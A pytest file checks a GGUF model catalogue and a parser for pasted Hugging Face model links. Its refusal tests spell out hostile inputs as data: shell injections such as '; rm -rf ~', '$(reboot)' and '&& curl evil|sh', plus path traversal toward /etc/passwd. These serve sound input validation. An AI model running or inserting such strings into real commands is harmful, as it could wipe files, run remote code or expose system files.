"""The shipped model catalogue and the parser for what a user pastes."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
import requests
from rig.hf_server import HfServer

from rubikpi_studio.core.catalogue import (
    DEFAULT_ENDPOINT,
    BadModelRef,
    CatalogueError,
    default_path,
    find_model,
    load_catalogue,
    parse_catalogue,
    parse_model_ref,
)
from rubikpi_studio.core.errors import UsageError

MIRROR = "https://hf-mirror.com"


@pytest.fixture(scope="module")
def raw() -> Any:
    return json.loads(default_path().read_text(encoding="utf-8"))


# --- the shipped catalogue ------------------------------------------------------------------------------


def test_shipped_catalogue_loads() -> None:
    models = load_catalogue()
    assert len(models) >= 6
    qwen = find_model(models, "qwen2-1.5b-instruct")
    assert (qwen.repo, qwen.model.file) == ("Qwen/Qwen2-1.5B-Instruct-GGUF", "qwen2-1_5b-instruct-fp16.gguf")
    assert qwen.kind == "text" and qwen.projector is None
    assert (qwen.quantization, qwen.pure, qwen.needs_quantize) == ("Q4_0", True, True)
    assert qwen.source == "manual"
    vlm = find_model(models, "smolvlm-500m-instruct")
    assert vlm.repo == "ggml-org/SmolVLM-500M-Instruct-GGUF"
    assert vlm.model.file == "SmolVLM-500M-Instruct-f16.gguf"
    assert vlm.projector is not None and vlm.projector.file == "mmproj-SmolVLM-500M-Instruct-f16.gguf"
    assert vlm.kind == "vision" and vlm.quantization == "Q4_0"
    assert vlm.download_size == vlm.model.size + vlm.projector.size
    assert vlm.disk_needed == vlm.download_size + vlm.quantized_size
    assert vlm.url() == (
        "https://huggingface.co/ggml-org/SmolVLM-500M-Instruct-GGUF/resolve/main/SmolVLM-500M-Instruct-f16.gguf"
    )
    assert vlm.url(MIRROR, projector=True).startswith(MIRROR + "/ggml-org/")
    with pytest.raises(UsageError):
        find_model(models, "gpt-5")


def test_every_entry_fits_the_board_and_speaks_both_languages() -> None:
    for m in load_catalogue():
        assert m.ram_mb < 3 * 1024, m.id  # leaves most of 8 GB to the system
        assert m.disk_needed < 8 * 10**9, m.id
        assert m.quantized_size < m.model.size, m.id
        assert set(m.description) >= {"en", "zh_CN"}, m.id
        assert any("\u4e00" <= ch <= "\u9fff" for ch in m.describe("zh_CN")), m.id
        assert m.describe("zh-CN") == m.describe("zh_CN") == m.describe("zh")
        assert m.describe("de") == m.describe("en")
        for f in (m.model, m.projector):
            if f is not None and f.sha256 is None:
                assert f.size > 0  # sizes may be estimates; the Hub's lfs.oid is the checksum then
        # every catalogue entry is something parse_model_ref accepts too
        ref = parse_model_ref(f"{m.repo}/{m.model.file}")
        assert (ref.repo, ref.path, ref.url) == (m.repo, m.model.file, m.url())


def test_catalogue_entry_downloads_from_the_stand_in(tmp_path: Path) -> None:
    m = find_model(load_catalogue(), "smolvlm-500m-instruct")
    with HfServer() as hf:
        hf.add_file(m.repo, m.model.file, b"GGUF text part")
        assert m.projector is not None
        hf.add_file(m.repo, m.projector.file, b"GGUF projector")
        assert requests.get(m.url(hf.endpoint), timeout=10).content == b"GGUF text part"
        assert requests.get(m.url(hf.endpoint, projector=True), timeout=10).content == b"GGUF projector"


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda d: d.update(schema=2), "schema"),
        (lambda d: d["models"][0].pop("repo"), "'repo' is missing"),
        (lambda d: d["models"][0].update(repo="Qwen/Qwen2 ; rm -rf ~"), "not a Hugging Face repository"),
        (lambda d: d["models"][0]["model"].update(file="../../etc/passwd.gguf"), "not a plain file path"),
        (lambda d: d["models"][0]["model"].update(file="model.bin"), "not a GGUF file"),
        (lambda d: d["models"][0]["model"].update(sha256="ABC"), "sha256"),
        (lambda d: d["models"][0]["model"].update(size="3 GB"), "wrong type"),
        (lambda d: d["models"][0].update(kind="vision"), "needs a projector"),
        (lambda d: d["models"][1].update(projector=None), "needs a projector"),
        (lambda d: d["models"][0].update(quantization="Q9_9"), "unknown quantization"),
        (lambda d: d["models"][0].update(ram_mb=9000), "does not fit"),
        (lambda d: d["models"][0].update(description={"zh_CN": "只有中文"}), "'en'"),
        (lambda d: d["models"].append(copy.deepcopy(d["models"][0])), "twice"),
        (lambda d: d["models"][0].update(pure="yes"), "wrong type"),
    ],
)
def test_invalid_catalogues_are_refused(raw: Any, mutate: Any, message: str) -> None:
    doc = copy.deepcopy(raw)
    mutate(doc)
    with pytest.raises(CatalogueError) as e:
        parse_catalogue(doc)
    assert message in str(e.value)
    assert e.value.code == "E_CATALOGUE"


def test_missing_or_broken_catalogue_file(tmp_path: Path) -> None:
    with pytest.raises(CatalogueError, match="missing"):
        load_catalogue(tmp_path / "nope.json")
    bad = tmp_path / "bad.json"
    bad.write_text("{not json")
    with pytest.raises(CatalogueError, match="cannot be read"):
        load_catalogue(bad)


# --- parse_model_ref ------------------------------------------------------------------------------------

QWEN = "Qwen/Qwen2-1.5B-Instruct-GGUF"
QFILE = "qwen2-1_5b-instruct-fp16.gguf"


@pytest.mark.parametrize(
    ("text", "endpoint", "expected"),
    [
        (f"{QWEN}/{QFILE}", DEFAULT_ENDPOINT, (QWEN, "main", QFILE, DEFAULT_ENDPOINT)),
        (f"  {QWEN}:{QFILE}\n", DEFAULT_ENDPOINT, (QWEN, "main", QFILE, DEFAULT_ENDPOINT)),
        (
            f"https://huggingface.co/{QWEN}/resolve/main/{QFILE}",
            DEFAULT_ENDPOINT,
            (QWEN, "main", QFILE, None),
        ),
        (f"https://huggingface.co/{QWEN}/blob/main/{QFILE}", DEFAULT_ENDPOINT, (QWEN, "main", QFILE, None)),
        (
            f"https://huggingface.co/{QWEN}/resolve/main/{QFILE}?download=true",
            MIRROR,
            (QWEN, "main", QFILE, MIRROR),
        ),
        (f"https://hf.co/{QWEN}/blob/main/{QFILE}", MIRROR + "/", (QWEN, "main", QFILE, MIRROR)),
        (
            f"https://hf-mirror.com/{QWEN}/resolve/main/{QFILE}",
            DEFAULT_ENDPOINT,
            (QWEN, "main", QFILE, MIRROR),
        ),
        (
            f"http://127.0.0.1:8765/{QWEN}/resolve/0123456789abcdef0123456789abcdef01234567/{QFILE}",
            DEFAULT_ENDPOINT,
            (QWEN, "0123456789abcdef0123456789abcdef01234567", QFILE, "http://127.0.0.1:8765"),
        ),
        (
            "https://mirror.example.cn/hf/org/repo/resolve/v1.0/sub/dir/model-Q4_0.gguf",
            "https://mirror.example.cn/hf",
            ("org/repo", "v1.0", "sub/dir/model-Q4_0.gguf", "https://mirror.example.cn/hf"),
        ),
        (
            "bartowski/Llama-3.2-1B-Instruct-GGUF/resolve/main/Llama-3.2-1B-Instruct-f16.gguf",
            DEFAULT_ENDPOINT,
            (
                "bartowski/Llama-3.2-1B-Instruct-GGUF",
                "main",
                "Llama-3.2-1B-Instruct-f16.gguf",
                DEFAULT_ENDPOINT,
            ),
        ),
        (
            "org/repo/Q4_K_M/model-00001-of-00002.gguf",
            DEFAULT_ENDPOINT,
            ("org/repo", "main", "Q4_K_M/model-00001-of-00002.gguf", DEFAULT_ENDPOINT),
        ),
        (
            f"https://huggingface.co/{QWEN}/resolve/main/a%2Bb.gguf",
            DEFAULT_ENDPOINT,
            (QWEN, "main", "a+b.gguf", None),
        ),
        (
            "org/repo/Upper/Model-F16.GGUF",
            DEFAULT_ENDPOINT,
            ("org/repo", "main", "Upper/Model-F16.GGUF", None),
        ),
    ],
)
def test_accepted_refs(text: str, endpoint: str, expected: tuple[str, str, str, str | None]) -> None:
    repo, rev, path, ep = expected
    ref = parse_model_ref(text, endpoint)
    ep = ep or endpoint.rstrip("/")
    assert (ref.repo, ref.revision, ref.path, ref.endpoint) == (repo, rev, path, ep)
    assert ref.url == f"{ep}/{repo}/resolve/{rev}/{path.replace('+', '%2B')}"
    # The name in the models folder is the file's own, with the extension the board's scripts know.
    name = path.rsplit("/", 1)[-1]
    assert ref.filename == name[:-5] + ".gguf"
    assert ref.filename[:-5] == name[:-5]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "Nothing to download"),
        ("Qwen/Qwen2-1.5B-Instruct-GGUF", "names no file"),
        ("Qwen2-1.5B-Instruct", "names no file"),
        ("Qwen/Qwen2-1.5B-Instruct-GGUF:Q4_K_M", "tag, not a file"),
        ("org/repo/model.safetensors", "not a GGUF file"),
        ("org/repo/$(reboot).gguf", "characters that are not part of a model name"),
        ("org/repo/`id`.gguf", "characters"),
        ("org/repo;rm -rf ~/x.gguf", "characters"),
        ("org/repo/a b.gguf", "characters"),
        ("org/repo/x.gguf && curl evil|sh", "characters"),
        ("org/repo/../../etc/passwd.gguf", "not a plain file path"),
        ("org/repo/./x.gguf", "not a plain file path"),
        ("org/../x.gguf", "not a Hugging Face repository"),
        ("-rf/repo/x.gguf", "not a Hugging Face repository"),
        ("org/repo/-x.gguf", "not a plain file path"),
        ("org/repo/resolve/../x.gguf", "not a branch"),
        ("ftp://huggingface.co/org/repo/resolve/main/x.gguf", "ftp:// links are not supported"),
        ("file:///etc/passwd.gguf", "file:// links are not supported"),
        ("ssh://user@host/org/repo/resolve/main/x.gguf", "ssh:// links"),
        ("https://user:pw@huggingface.co/org/repo/resolve/main/x.gguf", "not a plain download link"),
        ("https://huggingface.co/org/repo", "not a link to a file"),
        ("https://huggingface.co/org/repo/tree/main", "not a link to a file"),
        ("https://huggingface.co/org/repo/resolve/main/%24%28id%29.gguf", "characters"),
        ("https://huggingface.co/org/repo/resolve/main/..%2F..%2Fx.gguf", "not a plain file path"),
        ("https://huggingface.co/org/repo/resolve/main/x.gguf;reboot", "characters"),
    ],
)
def test_refused_refs(text: str, message: str) -> None:
    with pytest.raises(BadModelRef) as e:
        parse_model_ref(text)
    assert message in str(e.value)
    assert e.value.code == "E_MODEL_REF" and isinstance(e.value, UsageError)


@pytest.mark.parametrize(
    "endpoint",
    ["ftp://mirror", "huggingface.co", "https://", "https://h/?x=1", "https://h/$(id)", "https://u:p@h"],
)
def test_refused_endpoints(endpoint: str) -> None:
    with pytest.raises(BadModelRef):
        parse_model_ref(f"{QWEN}/{QFILE}", endpoint)


def test_parsed_url_downloads_from_the_stand_in() -> None:
    with HfServer() as hf:
        hf.add_file("org/repo", "sub/model-Q4_0.gguf", b"GGUF bytes")
        for text in (
            "org/repo/sub/model-Q4_0.gguf",
            "org/repo:sub/model-Q4_0.gguf",
            "https://huggingface.co/org/repo/blob/main/sub/model-Q4_0.gguf",
            f"{hf.endpoint}/org/repo/resolve/main/sub/model-Q4_0.gguf",
        ):
            ref = parse_model_ref(text, hf.endpoint)
            assert ref.endpoint == hf.endpoint
            assert requests.get(ref.url, timeout=10).content == b"GGUF bytes"
